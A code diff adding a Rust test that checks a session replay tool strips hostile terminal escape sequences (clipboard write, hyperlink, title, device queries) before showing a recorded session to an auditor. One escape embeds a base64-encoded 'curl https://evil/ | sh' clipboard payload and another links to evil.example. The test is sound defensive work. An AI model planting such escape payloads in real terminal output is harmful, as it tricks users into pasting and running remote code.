@@ -441,3 +441,37 @@ async fn a_session_still_running_is_already_playable() {
     assert!(text(&out.stdout).contains("halfway there"));
     rec.finish(Some(0), None).await.unwrap();
 }
+
+/// Issue 17 item 7: what a target wrote must not attack the auditor who
+/// replays it. A cast holding OSC 52 (clipboard), OSC 8, a title and
+/// device queries, split across events, plays to a pipe without any of
+/// them, colours and cursor movement kept.
+#[tokio::test]
+async fn play_neutralises_the_targets_escapes() {
+    let env = Env::new();
+    let shell = env
+        .start("sess-osc", "mallory", Kind::Shell, Some("xterm"), None)
+        .await;
+    for chunk in [
+        &b"\x1b[1;31mred\x1b[0m \x1b[5;1Hmoved\x1b[2K"[..],
+        b"\x1b]52;c;Y3VybCBodHRwczovL2V2aWwvIHwgc2g=\x07",
+        // A clipboard write cut between two events.
+        b"\x1b]5",
+        b"2;c;eA==\x1b\\",
+        b"\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
+        b"\x1b]0;owned\x07\x1b[c\x1b[6n\x1bP$qm\x1b\\\x1b[21t done\r\n",
+    ] {
+        shell.output(Bytes::copy_from_slice(chunk)).await.unwrap();
+    }
+    shell.finish(Some(0), None).await.unwrap();
+    let out = env.run(&["play", "sess-osc", "--idle-limit", "0"]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let shown = out.stdout.escape_ascii().to_string();
+    assert_eq!(
+        shown,
+        "\\x1b[1;31mred\\x1b[0m \\x1b[5;1Hmoved\\x1b[2Klink done\\r\\n"
+    );
+    for bad in ["\\x1b]", "\\x1bP", "\\x1b[c", "\\x1b[6n", "\\x1b[21t"] {
+        assert!(!shown.contains(bad), "{bad} reached the terminal: {shown}");
+    }
+}
